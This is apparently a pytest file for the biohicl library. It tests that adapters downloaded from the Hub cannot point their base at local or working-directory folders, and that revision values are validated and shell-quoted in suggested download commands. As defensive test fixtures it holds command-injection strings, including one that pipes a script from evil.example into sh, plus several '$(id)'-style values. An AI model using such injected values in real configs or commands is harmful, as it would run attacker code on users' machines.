"""What a downloaded model's files may make biohicl read or print: an adapter from the Hub (or the HF cache) names
its base by Hub id, never a local folder (only an explicit ``base_model_path`` loads it onto one); a recorded
``base_revision`` is a git ref or sha, and the commands biohicl suggests quote what they carry."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import numpy as np
import pytest

from biohicl.errors import ConfigError, ModelLoadError
from biohicl.models.config import BioHiCLConfig
from biohicl.models.model import BioHiCL
from tests.conftest import build_tiny_bert, save_tiny_adapter_run
from tests.test_loader import add_to_hub_cache

SHA = "d" * 40
TEXTS = ["insulin resistance in diabetes", "cancer cells"]


def edit_json(path: Path, **values) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text()), **values}))


@pytest.mark.parametrize("spelled", ["absolute", "home"])
def test_a_hub_adapter_whose_biohicl_config_names_a_local_base_is_refused(tmp_path, hub_cache, spelled, monkeypatch):
    # an adapter repo whose biohicl_config.json said base_model an absolute path (or "~/...") made biohicl read that
    # machine folder as the base, silently
    run = save_tiny_adapter_run(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    base = str(tmp_path / "base") if spelled == "absolute" else "~/base"
    edit_json(run / "biohicl_config.json", base_model=base)
    edit_json(run / "adapter_config.json", base_model_name_or_path=base)  # the two agree, as a saved adapter's do
    snapshot = add_to_hub_cache(hub_cache, "attacker/adapter", run, SHA)
    for spec in ("attacker/adapter", str(snapshot)):  # by repo id, and the cache's folder given as a path
        with pytest.raises(ModelLoadError) as err:
            BioHiCL.from_pretrained(spec)
        message = str(err.value)
        assert "\n" not in message
        assert message.startswith(f"{snapshot / 'biohicl_config.json'}: field base_model is the local path {base!r}")
        assert "attacker/adapter" in message and "base_model_path" in message
    model = BioHiCL.from_pretrained("attacker/adapter", base_model_path=tmp_path / "base")  # given: loads on it
    reference = BioHiCL.from_pretrained(run, base_model_path=tmp_path / "base")
    np.testing.assert_allclose(model.encode(TEXTS), reference.encode(TEXTS), atol=1e-6)


def plain_peft_adapter(run: Path) -> Path:
    """``run`` reduced to what peft's ``save_pretrained`` leaves (no biohicl nor sentence-transformers files)."""
    for name in (
        "biohicl_config.json",
        "modules.json",
        "sentence_bert_config.json",
        "config_sentence_transformers.json",
    ):
        (run / name).unlink()
    return run


def test_a_hub_plain_peft_adapter_naming_a_local_base_is_refused(tmp_path, hub_cache):
    run = plain_peft_adapter(save_tiny_adapter_run(tmp_path))
    base = str(tmp_path / "base")
    edit_json(run / "adapter_config.json", base_model_name_or_path=base)
    snapshot = add_to_hub_cache(hub_cache, "attacker/plain-adapter", run, SHA)
    with pytest.raises(ModelLoadError) as err:
        BioHiCL.from_pretrained("attacker/plain-adapter")
    message = str(err.value)
    field = f"{snapshot / 'adapter_config.json'}: field base_model_name_or_path"
    assert "\n" not in message and message.startswith(f"{field} is the local path {base!r}")
    with pytest.raises(ModelLoadError, match="field base_model_name_or_path is the local path"):
        BioHiCL.from_base("attacker/plain-adapter")  # as a base to train on, too


def test_a_hub_plain_peft_adapter_loads_on_the_base_model_path_its_refusal_names(tmp_path, hub_cache):
    # peft writes base_model_name_or_path as the folder the base was loaded from; the refusal says "give that folder
    # as base_model_path", which from_pretrained did not pass on to a plain adapter: it was refused again
    run = plain_peft_adapter(save_tiny_adapter_run(tmp_path))
    base = tmp_path / "base"
    edit_json(run / "adapter_config.json", base_model_name_or_path=str(base))
    snapshot = add_to_hub_cache(hub_cache, "owner/plain-adapter", run, SHA)
    reference = BioHiCL.from_pretrained(run).encode(TEXTS)  # a local adapter folder loads on its recorded base
    for spec in ("owner/plain-adapter", snapshot):
        with pytest.raises(ModelLoadError) as err:
            BioHiCL.from_pretrained(spec)
        assert "\n" not in str(err.value) and "give that folder as base_model_path" in str(err.value)
        model = BioHiCL.from_pretrained(spec, base_model_path=base)
        assert model.config.base_model == "owner/plain-adapter"
        np.testing.assert_allclose(model.encode(TEXTS), reference, atol=1e-6)
    merged = BioHiCL.from_base("owner/plain-adapter", base_model_path=str(base))  # as a base to train on, too
    np.testing.assert_allclose(merged.encode(TEXTS), reference, atol=1e-6)


@pytest.mark.parametrize("spelled", ["base", "work/base"])
@pytest.mark.parametrize("kind", ["biohicl", "plain"])
def test_a_hub_adapter_naming_a_relative_base_never_reads_the_working_directory(
    tmp_path, hub_cache, monkeypatch, spelled, kind
):
    # a Hub adapter whose configs said base "base" or "work/base" loaded that folder of the working directory
    run = save_tiny_adapter_run(tmp_path)
    if kind == "plain":
        plain_peft_adapter(run)
    else:
        edit_json(run / "biohicl_config.json", base_model=spelled)
    edit_json(run / "adapter_config.json", base_model_name_or_path=spelled)
    snapshot = add_to_hub_cache(hub_cache, "attacker/adapter", run, SHA)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "work").mkdir()
    build_tiny_bert(tmp_path / "work" / "base")  # both spellings name a folder of the working directory
    for spec in ("attacker/adapter", str(snapshot)):
        with pytest.raises(ModelLoadError) as err:
            BioHiCL.from_pretrained(spec)
        message = str(err.value)  # read as a Hub id: not in the (offline) cache
        assert "\n" not in message and f"{spelled} at revision main is not in the Hugging Face cache" in message
    model = BioHiCL.from_pretrained("attacker/adapter", base_model_path=tmp_path / "base")  # given: loads on it
    assert model.config.kind == ("adapter" if kind == "biohicl" else "full")  # a plain one loads merged, as a base


def test_a_local_run_folders_absolute_base_still_loads(tmp_path):
    # since session 28 a base given as a folder is recorded by its absolute path: a local run must keep loading
    base = build_tiny_bert(tmp_path / "base")
    model = BioHiCL.from_base(str(base), pooling="mean")
    model.add_lora(r=4, target_modules=["query", "value"], verbose=False)
    model.save_pretrained(tmp_path / "run")
    assert json.loads((tmp_path / "run" / "biohicl_config.json").read_text())["base_model"] == str(base.resolve())
    assert BioHiCL.from_pretrained(tmp_path / "run").config.kind == "adapter"


INJECTED = "main && curl -s https://evil.example/x | sh #"


def test_a_base_revision_that_is_no_git_ref_is_refused_when_read(tmp_path):
    # a downloaded biohicl_config.json's base_revision went unquoted into the offline hint `hf download ... --revision
    # main && curl ... | sh #`, a command the user is told to run
    run = save_tiny_adapter_run(tmp_path)
    edit_json(run / "biohicl_config.json", base_revision=INJECTED)
    with pytest.raises(ConfigError) as err:
        BioHiCL.from_pretrained(run, base_model_path=tmp_path / "base")
    message = str(err.value)
    assert "\n" not in message and message.startswith(f"{run / 'biohicl_config.json'}: base_revision: {INJECTED!r}")
    assert "git branch, tag or commit sha" in message


@pytest.mark.parametrize(
    "revision", ["main", "v1.0", "refs/pr/1", "release/2024-01_b", "a1b2c3d", "0" * 40, "v1.0+cu121", "feature@2"]
)
def test_a_git_ref_or_sha_is_a_base_revision(revision):
    assert BioHiCLConfig(base_model="org/base", base_revision=revision).base_revision == revision


@pytest.mark.parametrize(
    "revision",
    [INJECTED, "main;id", "$(id)", "`id`", "a b", "-x", "/main", "main/", "a..b", "a//b", "x.lock", "", "@", "a@{1}"],
)
def test_what_is_no_git_ref_is_no_base_revision(revision):
    with pytest.raises(ConfigError, match=r"base_revision: .* is not a git branch, tag or commit sha"):
        BioHiCLConfig(base_model="org/base", base_revision=revision)


def test_the_fetch_hints_quote_what_they_carry(hub_cache):
    # whatever a file or a flag puts in a revision or an id, the command the message offers runs only hf download
    from biohicl.models.resolver import download_snapshot, resolve_base

    with pytest.raises(ModelLoadError) as err:
        download_snapshot("org/base", INJECTED)
    assert f"`hf download org/base --revision {shlex.quote(INJECTED)}`" in str(err.value)
    with pytest.raises(ModelLoadError) as err:
        resolve_base("base && id")
    assert "`hf download 'base && id' --revision main`" in str(err.value)
    with pytest.raises(ModelLoadError) as err:
        resolve_base("base@main && id")
    assert "--base_model base --base_revision 'main && id'" in str(err.value)
    assert '(revision="main && id" in Python)' in str(err.value)
